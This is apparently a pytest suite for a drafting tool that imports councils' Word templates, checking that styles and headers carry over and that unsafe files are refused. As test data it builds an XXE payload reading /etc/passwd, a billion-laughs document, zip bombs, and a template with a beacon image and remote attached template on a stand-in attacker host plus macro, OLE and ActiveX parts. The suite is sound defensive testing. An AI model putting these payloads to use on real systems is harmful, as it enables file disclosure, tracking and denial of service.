"""A council's own Word template: kept where it matters, refused when it is not safe to open."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

import docx
import pytest
from docx.enum.section import WD_ORIENT
from docx.shared import Mm, RGBColor

from clauses.drafting import TemplateError
from clauses.drafting.house import new_house_document
from clauses.drafting.outside import OutsideContent
from clauses.drafting.package import write_docx
from clauses.drafting.template import MAX_UNPACKED_BYTES, check_template, open_template
from clauses.library import Library
from tests.conftest import AS_OF, make_profile
from tests.drafting.helpers import (
    W,
    make_draft,
    outline,
    part_xml,
    reopen,
    run_highlights,
    style_name,
)

HEADER_TEXT = "Région Exemple — Direction de la commande publique"
COUNCIL_BLUE = RGBColor(0x00, 0x33, 0x66)


def council_template(*, drop_styles: tuple[str, ...] = (), footer: bool = True) -> bytes:
    """A template as a council would make it: own heading colour, margins, header, footer."""
    document = docx.Document()
    document.styles["Heading 1"].font.color.rgb = COUNCIL_BLUE
    section = document.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    section.left_margin = section.right_margin = Mm(30)
    section.header.paragraphs[0].text = HEADER_TEXT
    if footer:
        section.footer.paragraphs[0].text = "Conseil régional — document de travail"
    document.add_paragraph("Contenu du modèle à effacer")
    document.add_table(rows=2, cols=2)
    styles = document.styles.element
    for name in drop_styles:
        styles.remove(document.styles[name].element)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rewrite(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """A copy of the zip ``data`` with each member passed through ``change`` (None drops it)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            content = change(info.filename, source.read(info))
            if content is not None:
                target.writestr(info.filename, content)
    return out.getvalue()


def as_dotx(data: bytes) -> bytes:
    def change(name: str, content: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return content.replace(
                b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml"
            )
        return content

    return rewrite(data, change)


def test_template_styles_header_and_page_setup_are_kept(library: Library) -> None:
    result = make_draft(make_profile(), library, AS_OF, template=council_template())
    assert result.messages == []
    document = reopen(result.content)
    section = document.sections[0]
    assert section.left_margin is not None and round(section.left_margin.mm) == 30
    assert section.header.paragraphs[0].text == HEADER_TEXT
    assert "Conseil régional" in section.footer.paragraphs[0].text
    assert document.styles["Heading 1"].font.color.rgb == COUNCIL_BLUE
    assert "Contenu du modèle à effacer" not in [p.text for p in document.paragraphs]
    assert outline(document)[0] == (1, "Synthèse")
    assert any(marked for _, marked in run_highlights(result.content))


def test_styles_are_found_by_name_whatever_their_ids(library: Library) -> None:
    """A French Word names its styles « heading 1 » but gives them ids like « Titre1 »."""

    def french_ids(name: str, content: bytes) -> bytes:
        if name in ("word/styles.xml", "word/document.xml"):
            return content.replace(b'"Heading1"', b'"Titre1"').replace(
                b'"ListBullet"', b'"Listepuces"'
            )
        return content

    result = make_draft(
        make_profile(),
        library,
        AS_OF,
        template=rewrite(council_template(), french_ids),
        sections=["summary"],
    )
    assert result.messages == []
    body = part_xml(result.content, "word/document.xml")
    assert '<w:pStyle w:val="Titre1"/>' in body and '<w:pStyle w:val="Listepuces"/>' in body
    assert '"Heading1"' not in body
    assert outline(reopen(result.content))[0] == (1, "Synthèse")


def test_missing_styles_fall_back_to_the_house_ones_with_a_message(library: Library) -> None:
    template = council_template(drop_styles=("List Number", "Heading 3", "Table Grid"))
    result = make_draft(make_profile(), library, AS_OF, template=template)
    assert len(result.messages) == 3
    assert any(
        "« Titre 3 » (heading 3)" in m and "style de la maison" in m for m in result.messages
    )
    assert any("Liste numéro" in m for m in result.messages)
    document = reopen(result.content)
    assert document.styles["Heading 1"].font.color.rgb == COUNCIL_BLUE  # theirs, untouched
    styles = {style_name(p) for p in document.paragraphs}
    assert {"Heading 3", "List Number"} <= styles
    number = document.styles["List Number"].element
    num_id = number.find(f"{W}pPr/{W}numPr/{W}numId").get(f"{W}val")
    numbering = document.part.numbering_part.element
    assert any(n.get(f"{W}numId") == num_id for n in numbering.findall(f"{W}num"))
    assert all(style_name(t) == "Table Grid" for t in document.tables)


def test_template_without_numbering_part_still_gets_numbered_lists(library: Library) -> None:
    def change(name: str, content: bytes) -> bytes | None:
        if name == "word/numbering.xml":
            return None
        if name == "word/_rels/document.xml.rels":
            return re.sub(rb"<Relationship [^>]*numbering[^>]*/>", b"", content)
        return content

    template = rewrite(council_template(drop_styles=("List Number", "List Bullet")), change)
    result = make_draft(make_profile(), library, AS_OF, template=template, sections=["practices"])
    document = reopen(result.content)
    assert {"List Number", "List Bullet"} <= {style_name(p) for p in document.paragraphs}
    assert document.part.numbering_part.element.findall(f"{W}num")


def tiny_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


def test_template_body_images_are_not_carried_over(library: Library) -> None:
    document = docx.Document(io.BytesIO(council_template()))
    document.add_picture(io.BytesIO(tiny_png()))
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        assert any(name.startswith("word/media/") for name in archive.namelist())
    result = make_draft(
        make_profile(), library, AS_OF, template=buffer.getvalue(), sections=["summary"]
    )
    with zipfile.ZipFile(io.BytesIO(result.content)) as archive:
        assert not any(name.startswith("word/media/") for name in archive.namelist())


def test_template_without_footer_gets_page_numbers(library: Library) -> None:
    result = make_draft(
        make_profile(),
        library,
        AS_OF,
        template=council_template(footer=False),
        sections=["summary"],
    )
    assert any("pied de page" in m for m in result.messages)
    footer = reopen(result.content).sections[0].footer._element
    assert [t.text.strip() for t in footer.iter(f"{W}instrText")] == ["PAGE", "NUMPAGES"]


def test_a_dotx_template_is_accepted_and_drafted_as_a_document(library: Library) -> None:
    result = make_draft(
        make_profile(), library, AS_OF, template=as_dotx(council_template()), sections=["summary"]
    )
    types = part_xml(result.content, "[Content_Types].xml")
    assert "wordprocessingml.document.main+xml" in types
    assert "template.main+xml" not in types
    assert reopen(result.content).sections[0].header.paragraphs[0].text == HEADER_TEXT


def test_template_drafts_are_byte_identical(library: Library) -> None:
    template = council_template(drop_styles=("List Number",))
    first = make_draft(make_profile(), library, AS_OF, template=template).content
    assert make_draft(make_profile(), library, AS_OF, template=template).content == first


def test_the_house_template_is_used_without_a_template(library: Library) -> None:
    document = reopen(make_draft(make_profile(), library, AS_OF, sections=["summary"]).content)
    section = document.sections[0]
    assert section.orientation == WD_ORIENT.PORTRAIT
    assert section.header.is_linked_to_previous  # no header in the house template


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


XXE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b'<w:style><w:name w:val="&xxe;"/></w:style></w:styles>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>'
)


def with_member(name: str, content: bytes) -> bytes:
    return rewrite(council_template(), lambda n, c: content if n == name else c)


def adding(name: str, content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(council_template())) as source:
        members = {info.filename: source.read(info) for info in source.infolist()}
    return zip_of({**members, name: content})


def without(name: str) -> bytes:
    return rewrite(council_template(), lambda n, c: None if n == name else c)


REFUSED = {
    "empty file": (b"", "archive ZIP illisible"),
    "text file": (b"Bonjour, voici notre modele\n" * 20, "archive ZIP illisible"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "archive ZIP illisible"),
    "word 97": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "Word 97-2003"),
    "zip without word parts": (zip_of({"readme.txt": b"hello"}), "[Content_Types].xml"),
    "no main document": (without("word/document.xml"), "partie principale"),
    "xxe in styles": (with_member("word/styles.xml", XXE), "DOCTYPE"),
    "billion laughs": (with_member("word/document.xml", LAUGHS), "DOCTYPE"),
    "utf-16 xxe": (
        with_member(
            "word/settings.xml", XXE.replace(b'"UTF-8"', b'"UTF-16"').decode().encode("utf-16")
        ),
        "DOCTYPE",
    ),
    "broken xml": (with_member("word/document.xml", b"<w:document><w:body>"), "XML invalide"),
    "macro template": (
        rewrite(
            council_template(),
            lambda n, c: (
                c.replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
                )
                if n == "[Content_Types].xml"
                else c
            ),
        ),
        "macros",
    ),
}


@pytest.mark.parametrize("name", list(REFUSED))
def test_unusable_templates_are_refused_in_french(name: str, library: Library) -> None:
    data, reason = REFUSED[name]
    with pytest.raises(TemplateError, match="modèle Word refusé") as caught:
        make_draft(make_profile(), library, AS_OF, template=data)
    assert reason in str(caught.value)


def test_zip_bomb_too_big_once_unpacked_is_refused_before_inflating() -> None:
    zeros = b"\x00" * (MAX_UNPACKED_BYTES + 1024)
    bomb = zip_of(
        {"[Content_Types].xml": b"<x/>", "_rels/.rels": b"<x/>", "word/document.xml": zeros}
    )
    assert len(bomb) < 200_000
    with pytest.raises(TemplateError, match="trop volumineuse une fois décompressée"):
        open_template(bomb)


def test_zip_bomb_with_an_absurd_ratio_is_refused() -> None:
    bomb = adding("word/media/image1.png", b"\x00" * (5 * 1024 * 1024))
    with pytest.raises(TemplateError, match="taux de compression anormal"):
        open_template(bomb)


def test_zip_with_a_lying_size_header_is_refused() -> None:
    data = bytearray(council_template())
    name = b"word/document.xml"
    # Shrink the declared uncompressed size in the central directory: inflating must stop there.
    central = data.rfind(b"PK\x01\x02", 0, data.find(name, data.find(b"PK\x01\x02")) + 1)
    size_at = central + 24
    data[size_at : size_at + 4] = (10).to_bytes(4, "little")
    with pytest.raises(TemplateError):
        open_template(bytes(data))


# Content from outside, and content that runs (issue 20, finding 1): the probe's template had,
# in its header, an image fetched from a web address and a file:// link, in its settings a
# remote attached template, and macros; ActiveX controls and OLE objects travel the same way.
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
RELS = '<Relationships xmlns="' + PR + '">{}</Relationships>'
REL = '<Relationship Id="{}" Type="{}" Target="{}"{}/>'
EXTERNAL = ' TargetMode="External"'
BEACON = "http://attaquant.test/beacon.png"
REMOTE_TEMPLATE = "https://attaquant.test/modele.dotm"
HEADER_EXTRAS = (
    '<w:hyperlink r:id="rIdFile"><w:r><w:t>Charte</w:t></w:r></w:hyperlink>'
    '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
    '<v:imagedata r:id="rIdBeacon"/></v:shape></w:pict></w:r>'
    '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
    'r:id="rIdOle"/></w:object></w:r>'
)


def hostile_template() -> bytes:
    """:func:`council_template` with all of it: header image and link from outside, an OLE
    object, a remote attached template, macros and an ActiveX control."""
    header_rels = RELS.format(
        REL.format("rIdBeacon", R + "image", BEACON, EXTERNAL)
        + REL.format("rIdFile", R + "hyperlink", "file:///etc/passwd", EXTERNAL)
        + REL.format("rIdOle", R + "oleObject", "embeddings/oleObject1.bin", "")
    )
    settings_rels = RELS.format(
        REL.format("rIdTpl", R + "attachedTemplate", REMOTE_TEMPLATE, EXTERNAL)
    )
    added = {
        "word/_rels/header1.xml.rels": header_rels.encode(),
        "word/_rels/settings.xml.rels": settings_rels.encode(),
        "word/embeddings/oleObject1.bin": OLE_SIGNATURE + b"\x00" * 64,
        "word/vbaProject.bin": OLE_SIGNATURE + b"\x00" * 64,
        "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
    }

    def change(name: str, content: bytes) -> bytes:
        if not name.endswith((".xml", ".rels")):
            return content
        text = content.decode()
        if name == "word/header1.xml":
            text = text.replace("</w:p>", HEADER_EXTRAS + "</w:p>", 1)
            if "xmlns:r=" not in text.split(">", 2)[1]:
                text = text.replace("<w:hdr ", f'<w:hdr xmlns:r="{R_NS}" ', 1)
        elif name == "word/settings.xml":
            text = text.replace("</w:settings>", '<w:attachedTemplate r:id="rIdTpl"/></w:settings>')
            if "xmlns:r=" not in text.split(">", 2)[1]:
                text = text.replace("<w:settings ", f'<w:settings xmlns:r="{R_NS}" ', 1)
        elif name == "word/_rels/document.xml.rels":
            text = text.replace(
                "</Relationships>",
                REL.format("rIdVba", MS + "vbaProject", "vbaProject.bin", "")
                + REL.format("rIdAx", R + "control", "activeX/activeX1.xml", "")
                + "</Relationships>",
            )
        elif name == "[Content_Types].xml":
            text = text.replace(
                "<Default ",
                '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                "<Default ",
                1,
            )
        return text.encode()

    with zipfile.ZipFile(io.BytesIO(council_template())) as source:
        members = {
            info.filename: change(info.filename, source.read(info)) for info in source.infolist()
        }
    return zip_of(members | added)


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS = "http://schemas.microsoft.com/office/2006/relationships/"
OLE_SIGNATURE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def test_a_template_with_outside_or_active_content_is_refused_naming_it() -> None:
    with pytest.raises(TemplateError) as refused:
        check_template(hostile_template())
    message = str(refused.value)
    assert message.startswith("modèle Word refusé : il contient des éléments extérieurs ou actifs")
    for expected in (
        f"image externe « {BEACON} » (word/header1.xml)",
        "lien « file:///etc/passwd » (word/header1.xml)",
        f"modèle attaché « {REMOTE_TEMPLATE} » (word/settings.xml)",
        "macros (VBA) (word/vbaProject.bin)",
        "contrôle ActiveX (word/activeX/activeX1.xml)",
        "objet incorporé (OLE) (word/embeddings/oleObject1.bin)",
    ):
        assert expected in message
    assert check_template(council_template()) == []  # a clean template passes


def external_and_active(content: bytes) -> list[str]:
    """The external relationships (but Légifrance links) and the active parts of a package."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if re.search(r"vba|activeX/|embeddings/", name, re.IGNORECASE):
                found.append(name)
            if name.endswith(".rels"):
                for rel in re.findall(r"<Relationship [^>]*>", package.read(name).decode()):
                    target = re.search(r'Target="([^"]*)"', rel)
                    external = 'TargetMode="External"' in rel
                    own = target is not None and target[1].startswith(
                        "https://www.legifrance.gouv.fr/"
                    )
                    if (external and not own) or re.search(
                        r"attachedTemplate|vbaProject|/control\"|oleObject", rel
                    ):
                        found.append(rel)
    return found


def test_a_stored_hostile_template_is_drafted_without_its_outside_content(
    library: Library,
) -> None:
    """A template stored before uploads were checked: its draft holds none of it, the header's
    text stays, and the drafter's own Légifrance links are there."""
    result = make_draft(make_profile(), library, AS_OF, template=hostile_template())
    assert external_and_active(result.content) == []
    assert "attachedTemplate" not in part_xml(result.content, "word/settings.xml")
    header = reopen(result.content).sections[0].header
    assert header.paragraphs[0].text == HEADER_TEXT + "Charte"  # the link's text, unlinked
    assert "https://www.legifrance.gouv.fr/" in part_xml(
        result.content, "word/_rels/document.xml.rels"
    )


def test_no_word_file_is_written_with_outside_content() -> None:
    """The last check, whatever put it there."""
    document = new_house_document()
    document.part.relate_to(BEACON, R + "image", is_external=True)
    with pytest.raises(OutsideContent):
        write_docx(document, AS_OF)
    clean = new_house_document()
    clean.part.relate_to(
        "https://www.legifrance.gouv.fr/codes/article_lc/X", R + "hyperlink", is_external=True
    )
    assert write_docx(clean, AS_OF)
